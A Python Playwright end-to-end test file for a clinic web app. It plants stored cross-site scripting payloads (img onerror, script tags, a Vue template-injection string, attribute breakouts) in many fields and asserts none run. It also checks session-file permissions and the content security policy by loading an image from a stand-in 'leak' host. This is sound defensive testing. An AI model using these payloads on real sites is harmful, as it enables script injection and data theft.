"""Stored script injection (issue 14, part 1): every page that lists names people typed is opened in Chromium
with hostile names planted in the database (clients, tags, shared profiles and members, services, contacts,
pack templates, forms, tasks, calendar titles, the outbox); nothing may run, no dialog may open, no element the
names describe may appear. Its own app server: the shared one keeps its clean demo data."""

import asyncio
import json
import re
import stat
from datetime import datetime, time, timedelta
from zoneinfo import ZoneInfo

import pytest
from playwright.sync_api import Page, expect
from sqlalchemy import select

from domain.accounts.sessions import resume_session
from domain.billing.pack_templates import save_pack_template
from domain.clients.contacts import add_contact
from domain.clients.details import ClientInput
from domain.clients.register import add_client
from domain.households.members import add_member
from domain.households.shared_profiles import create_shared_profile
from domain.messaging.communication import send_to_profile
from domain.records.form_fields import FormField
from domain.records.forms import save_form_template
from domain.scheduling.bookable_services import save_service
from domain.scheduling.booking import Booking, book_appointment
from domain.tasks.tasks import add_task
from storage.accounts import StaffUserRow
from storage.clients import ProfileRow
from storage.engine import Database
from storage.migrate import in_thread
from tests.e2e.helpers import next_week_day, open_day, sign_in
from tests.e2e.server import AppServer
from tests.support import staff_actor
from ui.session import TOKEN_KEY

OWNER = staff_actor()
# Each sets window.__xss (or opens a dialog) if it ever runs: through a props string, HTML, or a Vue template.
HOSTILE = [
    "x' innerHTML='<img src=x onerror=window.__xss=1>",
    '"><img src=x onerror="window.__xss=2">',
    "<script>window.__xss=3</script>",
    "{{ constructor.constructor('window.__xss=4')() }}",
    "x' onmouseover='window.__xss=5' autofocus onfocus='window.__xss=6",
]
TAG = "<img src=x onerror=alert(7)>"


async def _plant(url: str) -> dict[str, int]:
    db = Database(url)
    try:
        people = []
        for n, hostile in enumerate(HOSTILE):
            data = ClientInput(
                first_name=f"Evil{n}", last_name=hostile[:80], email=f"evil{n}@example.com", phone="", tags=[TAG]
            )
            people.append(await add_client(db.uow(), actor=OWNER, data=data, invite=False, form_ids=[], public_url=""))
        shared = await create_shared_profile(db.uow(), actor=OWNER, name=HOSTILE[0])
        for person_id in people[:3]:
            await add_member(db.uow(), actor=OWNER, profile_id=shared, person_id=person_id)
        for hostile in HOSTILE:
            await save_service(
                db.uow(), actor=OWNER, service_id=None, name=hostile[:100], duration_minutes=30, price="1",
                colour="#8a3b12",
            )  # fmt: skip
            await add_contact(db.uow(), actor=OWNER, name=hostile, kind="GP", organisation=hostile)
            await add_task(db.uow(), actor=OWNER, title=hostile, details=hostile)
        await save_pack_template(
            db.uow(), actor=OWNER, template_id=None, name=HOSTILE[1], description=HOSTILE[0], metric="sessions",
            size="5", price="10",
        )  # fmt: skip
        await save_form_template(
            db.uow(), actor=OWNER, template_id=None, name=HOSTILE[2], description=HOSTILE[0],
            questions=[FormField("", HOSTILE[0], "short_text", False)],
        )  # fmt: skip
        async with db.uow() as uow:
            practitioner = (
                await uow.session.execute(
                    select(StaffUserRow.id).where(StaffUserRow.bookable).order_by(StaffUserRow.id)
                )
            ).scalar()
            profile_id = (
                await uow.session.execute(select(ProfileRow.id).where(ProfileRow.person_id == people[0]))
            ).scalar_one()
        day = next_week_day(1)
        start = datetime.combine(day, time(5, 0), ZoneInfo("Australia/Sydney"))  # before the demo's bookings
        await book_appointment(
            db.uow(), actor=OWNER, confirmed_outside_hours=True,
            booking=Booking(practitioner, start, start + timedelta(minutes=45), profile_id=profile_id,
                            title=HOSTILE[1], notes=HOSTILE[0]),
        )  # fmt: skip
        await send_to_profile(
            db.uow(), actor=OWNER, profile_id=profile_id, channel="email", to_person_id=people[0],
            cc_person_ids=[], subject=HOSTILE[0], body=HOSTILE[1],
        )  # fmt: skip
        return {"person": people[0], "shared": shared, "profile": profile_id}
    finally:
        await db.dispose()


@pytest.fixture(scope="module")
def planted():
    with AppServer() as server:
        # Playwright's sync API runs an event loop in this thread: the planting runs in one of its own
        ids = in_thread(asyncio.run, _plant(f"sqlite+aiosqlite:///{server.data_dir / 'hearth.db'}"))
        yield server, ids


def _watch(page: Page) -> list[str]:
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    return dialogs


def _nothing_ran(page: Page, dialogs: list[str]) -> None:
    assert page.evaluate("() => window.__xss") is None
    assert dialogs == []
    assert page.locator("img[src='x'], script:has-text('__xss')").count() == 0
    assert page.locator("[onerror], [onmouseover], [onfocus]").count() == 0  # no attribute got out of its quotes


@pytest.mark.parametrize(
    "path",
    [
        "/people",
        "/people?q=Evil",
        "/people/shared",
        "/clients/{person}",
        "/shared/{shared}",
        "/setup",
        "/tasks",
        "/outbox",
        "/audit",
    ],
)
def test_pages_listing_hostile_names_run_none_of_them(planted, page: Page, path: str):
    server, ids = planted
    dialogs = _watch(page)
    sign_in(page, path=server.url + path.format(**ids))
    expect(page.locator("main")).to_contain_text(re.compile(r"Evil|Session|Clinic|Outbox|Audit|Task"))
    shown = []  # the hostile text appears, as text, on the page or one of its tabs
    for tab in [None, *page.get_by_role("tab").all()[:12]]:  # every tab draws its lists
        if tab is not None:
            tab.click()
            expect(tab).to_have_attribute("aria-selected", "true")
        shown.append(bool(re.search(r"onerror|__xss", page.locator("main").inner_text())))
    assert any(shown), "no hostile name is on this page: the test would prove nothing"
    _nothing_ran(page, dialogs)


def test_the_calendar_shows_a_hostile_title_as_text(planted, page: Page):
    server, _ = planted
    dialogs = _watch(page)
    sign_in(page, path=f"{server.url}/calendar")
    open_day(page, next_week_day(1))
    expect(page.locator(".ec-event").filter(has_text="Evil0").first).to_be_visible()
    page.locator(".ec-event").filter(has_text="Evil0").first.click()
    expect(page.get_by_text("onerror").first).to_be_visible()  # the panel shows the title, as text
    _nothing_ran(page, dialogs)


def test_signed_in_sessions_are_kept_in_the_data_folder_for_the_owner_alone(planted, page: Page):
    server, _ = planted
    sign_in(page, path=f"{server.url}/people")
    sessions = server.data_dir / "sessions"  # not .nicegui/ in the folder the app was started from
    stored = [p for p in sessions.iterdir() if p.name.startswith("storage-user-")]
    assert stored
    for path in (sessions, *stored):
        assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, f"{path} is readable by others"
    # and what a session file holds does not work on its own: the session is bound to the browser's own secret
    tokens = [json.loads(p.read_text()).get(TOKEN_KEY) for p in stored]
    assert any(tokens)
    for token in filter(None, tokens):
        assert in_thread(asyncio.run, _resumes(f"sqlite+aiosqlite:///{server.data_dir / 'hearth.db'}", token)) is None
    expect(page.get_by_role("button", name="User menu")).to_be_visible()  # while the browser stays signed in


async def _resumes(url: str, token: str):
    db = Database(url)
    try:
        return await resume_session(db.uow(), token=token)
    finally:
        await db.dispose()


def test_every_response_carries_the_content_security_policy(planted, page: Page):
    server, _ = planted
    response = page.goto(f"{server.url}/login")
    policy = response.headers["content-security-policy"]
    for rule in ("object-src 'none'", "base-uri 'self'", "frame-ancestors 'none'", "form-action 'self'"):
        assert rule in policy
    assert "connect-src 'self'" in policy and "img-src 'self' data: blob:" in policy
    # injected markup cannot send data elsewhere: an image from another origin is refused by the browser
    page.evaluate("() => { const i = new Image(); i.src = 'http://198.51.100.1/leak?x=1'; document.body.append(i); }")
    violations = page.evaluate(
        """() => new Promise(done => {
            document.addEventListener('securitypolicyviolation', e => done(e.violatedDirective));
            const i = new Image(); i.src = 'http://198.51.100.2/leak'; document.body.append(i);
        })"""
    )
    assert violations.startswith("img-src")
